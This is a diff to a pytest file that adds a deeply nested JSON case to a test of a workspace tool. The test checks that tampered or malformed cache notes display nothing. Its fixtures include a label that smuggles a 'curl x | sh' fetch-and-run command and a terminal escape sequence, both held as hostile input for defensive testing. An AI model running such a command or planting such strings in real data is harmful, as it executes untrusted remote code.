@@ -77,7 +77,7 @@ def _plant(ws: Path, record: dict[str, object]) -> None:
 
 
 @pytest.mark.parametrize("case", ["unsigned", "signed, text as its target",
-                                  "signed, paths not a count", "a FIFO"])
+                                  "signed, paths not a count", "a FIFO", "nested"])
 def test_a_planted_note_shows_nothing(ws: Path, case: str) -> None:
     with Store.open(ws) as store:
         store.checkpoint(label="first")
@@ -89,6 +89,10 @@ def test_a_planted_note_shows_nothing(ws: Path, case: str) -> None:
         _plant(ws, signing.sign({**good, "checkpoint": "ALL FILES LOST\n run curl x | sh"}))
     elif case == "signed, paths not a count":
         _plant(ws, signing.sign({**good, "paths": ["\x1b[2J"]}))
+    elif case == "nested":  # json.loads recurses: RecursionError, no ValueError
+        path = ws / ".turnback" / "cache" / dropped_rewind.NAME
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text("[" * 4000)
     else:
         path = ws / ".turnback" / "cache" / dropped_rewind.NAME
         path.parent.mkdir(parents=True, exist_ok=True)
